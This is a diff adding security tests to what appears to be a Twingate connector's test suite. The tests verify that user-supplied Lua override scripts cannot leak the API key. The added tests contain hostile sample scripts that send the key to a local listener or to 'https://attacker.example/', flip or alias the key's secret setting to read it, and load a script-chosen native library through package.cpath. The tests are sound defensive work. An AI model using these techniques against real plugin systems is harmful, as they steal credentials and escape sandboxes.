@@ -26,11 +26,13 @@ class _Recorder(http.server.BaseHTTPRequestHandler):
         self.rfile.read(int(self.headers.get("Content-Length") or 0))
         self.server.seen.append(dict(self.headers))
         status, headers = self.server.reply
+        body = getattr(self.server, "body", b"")
         self.send_response(status)
         for name, value in headers.items():
             self.send_header(name, value)
-        self.send_header("Content-Length", "0")
+        self.send_header("Content-Length", str(len(body)))
         self.end_headers()
+        self.wfile.write(body)
 
     def log_message(self, *args):
         pass
@@ -122,6 +124,153 @@ class KeySafety(unittest.TestCase):
     def test_redirect_from_loopback_to_a_remote_host_is_refused(self):
         r = self.redirect_run("https://tenant.twingate.com/api/graphql/")
         self.assert_fails_with(r, "leaves a loopback host")
+
+    # ---- scripts cannot send the key elsewhere (issue 16 §2)
+
+    def override(self, module, code):
+        scripts = os.path.join(self.dir, "scripts")
+        os.makedirs(os.path.join(scripts, "twingate"), exist_ok=True)
+        with open(os.path.join(scripts, "twingate", module + ".lua"), "w") as f:
+            f.write(code)
+        return scripts
+
+    def sync_with(self, mock, scripts, extra=()):
+        return run(["--api-url", mock.url, "-f", self.out, "--log-format", "console",
+                    "--scripts-dir", scripts] + list(extra),
+                   env={"BATON_API_KEY": KEY}, cwd=self.dir, timeout=120)
+
+    USERS_SYNC_PREFIX = (
+        'local graphql = require "bt.graphql"\n'
+        'local M = require "bundled:twingate.users"\n'
+        'local sync = M.sync\n'
+        'function M.sync(ctx)\n'
+        '  %s\n'
+        '  return sync(ctx)\n'
+        'end\n'
+        'return M\n')
+
+    def test_a_type_module_cannot_configure_the_key_to_another_port(self):
+        thief = Listener(200)
+        targets = [("http://127.0.0.1:%d/" % thief.port, "X-Whatever"),
+                   ("http://127.0.0.1:%d/" % thief.port, "X-API-KEY"),
+                   ("https://attacker.example/", "X-API-KEY")]
+        try:
+            with MockServer(api_key=KEY) as mock:
+                for url, header in targets:
+                    with self.subTest(url=url, header=header):
+                        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
+                            'graphql.configure{ url = "%s", auth_config = "api-key", '
+                            'auth_header = "%s" }\n  graphql.query("{ a }")' % (url, header)))
+                        r = self.sync_with(mock, scripts)
+                        line = self.assert_fails_with(r, "credentials go only to")
+                        self.assertIn("twingate/users.lua:5:", line)
+                # the same header to the operator's own endpoint is fine
+                scripts = self.override("users", self.USERS_SYNC_PREFIX % (
+                    'graphql.configure{ url = "%s", auth_config = "api-key", '
+                    'auth_header = "X-Whatever" }' % mock.url))
+                r = self.sync_with(mock, scripts)
+                self.assert_fails_with(r, "credentials go only as the connector's own header")
+        finally:
+            thief.close()
+        self.assertEqual(thief.seen, [])
+
+    def test_a_second_endpoint_gets_no_credentials(self):
+        thief = Listener(200, {"Content-Type": "application/json"})
+        thief.httpd.body = b'{"data":{"a":1}}'
+        try:
+            with MockServer(api_key=KEY) as mock:
+                scripts = self.override("users", self.USERS_SYNC_PREFIX % (
+                    'graphql.configure{ url = "http://127.0.0.1:%d/" }\n'
+                    '  graphql.query("{ a }")\n'
+                    '  require("twingate.client").configure()' % thief.port))
+                r = self.sync_with(mock, scripts)
+        finally:
+            thief.close()
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(len(thief.seen), 1)
+        self.assertNotIn(KEY, repr(thief.seen))
+
+    def test_an_override_of_the_endpoint_file_changes_nothing(self):
+        thief = Listener(200)
+        try:
+            scripts = self.override("endpoint", (
+                'return { template = "http://127.0.0.1:%d/{name}", auth_header = "X-API-KEY", '
+                'auth_config = "api-key", name_config = "domain" }\n' % thief.port))
+            r = run(["--domain", "acme", "-f", self.out, "--scripts-dir", scripts],
+                    env={"BATON_API_KEY": KEY}, cwd=self.dir, timeout=60)
+        finally:
+            thief.close()
+        self.assertEqual(thief.seen, [])
+        self.assert_fails_with(r, "credentials go only to the operator's endpoint "
+                                  "https://acme.twingate.com/api/graphql/")
+
+    def test_an_override_contract_cannot_make_the_key_readable(self):
+        # init.lua from someone else flips api-key to non-secret, then a type
+        # module reads it (to send it as a variable to a keyless endpoint).
+        self.override("init", (
+            'local c = require "bundled:twingate"\n'
+            'for _, f in ipairs(c.config) do\n'
+            '  if f.name == "api-key" then f.secret = false end\n'
+            'end\n'
+            'return c\n'))
+        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
+            'local config = require "bt.config"\n'
+            '  require("bt.log").info("got " .. tostring(config.get("api-key")))'))
+        with MockServer(api_key=KEY) as mock:
+            r = self.sync_with(mock, scripts)
+        self.assert_fails_with(r, "'api-key' is a secret")
+
+    def test_an_override_contract_cannot_alias_the_key_variable(self):
+        # "api_key" reads BATON_API_KEY too: as a non-secret field it would
+        # hand the key to any script.
+        self.override("init", (
+            'local c = require "bundled:twingate"\n'
+            'table.insert(c.config, { name = "api_key", help = "x" })\n'
+            'return c\n'))
+        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
+            'require("bt.log").info("got " .. tostring(require("bt.config").get("api_key")))'))
+        with MockServer(api_key=KEY) as mock:
+            r = self.sync_with(mock, scripts)
+            self.assertEqual(mock.stats()["requests"], 0)
+        self.assert_fails_with(r, "config field 'api_key' clashes with 'api-key'")
+        self.assertNotIn("got ", r.stderr)
+
+    def test_package_cpath_cannot_point_at_a_script_chosen_module(self):
+        cc = shutil.which("cc")
+        if not cc:
+            self.skipTest("no C compiler")
+        libdir = os.path.join(self.dir, "lib")
+        os.makedirs(libdir)
+        marker = os.path.join(self.dir, "native-code-ran")
+        src = os.path.join(libdir, "cjson.c")
+        with open(src, "w") as f:
+            f.write('#include <stdio.h>\n#include <lua5.4/lua.h>\n'
+                    'int luaopen_cjson(lua_State *L) { FILE *f = fopen("%s", "w");'
+                    ' if (f) fclose(f); lua_newtable(L); return 1; }\n' % marker)
+        subprocess.run([cc, "-shared", "-fPIC", "-o", os.path.join(libdir, "cjson.so"), src],
+                       check=True)
+        scripts = self.override("users", (
+            'local M = require "bundled:twingate.users"\n'
+            'package.loaded.cjson = nil\n'
+            'package.cpath = "%s/?.so"\n'
+            'require "cjson"\n'
+            'return M\n' % libdir))
+        with MockServer(api_key=KEY) as mock:
+            r = self.sync_with(mock, scripts)
+            self.assertEqual(mock.stats()["requests"], 0)
+        line = self.assert_fails_with(r, "package.cpath is read-only")
+        self.assertIn("twingate/users.lua:3:", line)
+        self.assertFalse(os.path.exists(marker), "the script's native module ran")
+
+    def test_print_goes_to_the_log_redacted(self):
+        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
+            'print("printed-by-script", "%s")' % KEY))
+        with MockServer(api_key=KEY) as mock:
+            r = self.sync_with(mock, scripts)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertNotIn("printed-by-script", r.stdout)
+        self.assertIn("printed-by-script", r.stderr)
+        self.assertNotIn(KEY, r.stdout + r.stderr)
 
     # ---- --api-key-file
 
